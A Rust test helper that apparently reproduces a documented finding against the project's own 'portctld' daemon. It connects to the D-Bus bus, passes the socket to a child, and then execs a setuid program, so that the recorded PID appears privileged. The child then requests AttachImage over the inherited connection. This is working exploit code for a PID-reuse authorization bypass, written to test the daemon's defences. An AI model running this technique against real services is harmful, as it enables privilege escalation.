//! `portctl-pid-trick BUS_SOCKET SETUID_PROGRAM RESULT_FILE`: the attack on authorization by
//! process ID (docs/security.md, "Findings"). This process connects to the bus, so that the bus
//! records its PID for the connection; it hands the socket to a child and then execs
//! SETUID_PROGRAM, so that the PID now shows the capabilities of a setuid-root program. The
//! child waits for that and asks portctld, over the inherited connection, to attach
//! `minimal_1`; it writes the outcome to RESULT_FILE: `ok`, or the D-Bus error name and
//! message.
//!
//! `portctl-pid-trick --child PARENT_PID RESULT_FILE` is the child (its stdin is the socket).

use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};
use std::time::Duration;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args[1] == "--child" {
        child(&args[2], &args[3]);
        return;
    }
    let socket = UnixStream::connect(&args[1]).expect("connect to the bus");
    // Not waited for: this process becomes the setuid program, the child its orphan.
    #[allow(clippy::zombie_processes)]
    Command::new(std::env::current_exe().expect("own path"))
        .args(["--child", &std::process::id().to_string(), &args[3]])
        .stdin(Stdio::from(OwnedFd::from(socket)))
        .spawn()
        .expect("start the child");
    let e = Command::new(&args[2]).exec();
    panic!("exec {}: {e}", args[2]);
}

/// Whether process `pid` has capabilities in its effective set (it exec'd the setuid program).
fn has_capabilities(pid: &str) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix("CapEff:"))
        .and_then(|v| u64::from_str_radix(v.trim(), 16).ok())
        .is_some_and(|c| c != 0)
}

fn child(parent: &str, result: &str) {
    for _ in 0..500 {
        if has_capabilities(parent) {
            break;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let fd = std::io::stdin()
        .as_fd()
        .try_clone_to_owned()
        .expect("the socket");
    let outcome = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime")
        .block_on(async {
            let conn = zbus::connection::Builder::unix_stream(UnixStream::from(fd))
                .build()
                .await
                .map_err(|e| format!("connect: {e}"))?;
            conn.call_method(
                Some("org.freedesktop.portable1"),
                "/org/freedesktop/portable1",
                Some("org.freedesktop.portable1.Manager"),
                "AttachImage",
                &("minimal_1", ["minimal"].as_slice(), "default", false, ""),
            )
            .await
            .map(|_| "ok".to_string())
            .map_err(|e| match e {
                zbus::Error::MethodError(name, msg, _) => {
                    format!("{name}: {}", msg.unwrap_or_default())
                }
                e => e.to_string(),
            })
        });
    std::fs::write(result, outcome.unwrap_or_else(|e| e)).expect("write the result");
}
